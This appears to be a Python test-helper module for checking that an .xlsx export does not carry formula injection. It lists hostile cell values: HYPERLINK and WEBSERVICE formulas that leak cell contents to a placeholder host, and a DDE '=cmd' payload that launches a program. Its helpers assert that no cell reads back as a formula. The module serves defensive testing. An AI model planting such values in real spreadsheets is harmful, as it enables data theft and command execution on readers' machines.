"""Generators of hostile inputs (nothing binary is checked in: every file is made by a test when needed)."""
from __future__ import annotations

import io
import zipfile
from pathlib import Path

# Texts a person or a forged file could put where a name, a village or a note goes.
FORMULAS = [
    '=HYPERLINK("http://x/"&B3)',
    '=WEBSERVICE("http://x/?"&A2)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1+1",
    "＝1+1",
    "#N/A",
]


def formula_cells_in_xml(path: Path) -> list[str]:
    """Every <f> element in any sheet of an .xlsx file (what Excel would compute)."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name).decode("utf-8")
                for tag in ("<f>", "<f ", 't="e"'):
                    if tag in xml:
                        found.append(f"{name}: {tag}")
    return found


def texts_of(path: Path) -> dict[str, list]:
    """{sheet title: [(coordinate, value, quote prefix) of every text cell]} read back with openpyxl."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    out = {}
    for ws in wb.worksheets:
        cells = []
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                assert c.data_type != "e", f"{ws.title}!{c.coordinate} is an error value: {c.value!r}"
                if isinstance(c.value, str):
                    cells.append((c.coordinate, c.value, bool(c.quotePrefix)))
        out[ws.title] = cells
    return out


def xlsx_bytes(members: dict[str, bytes | str], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()
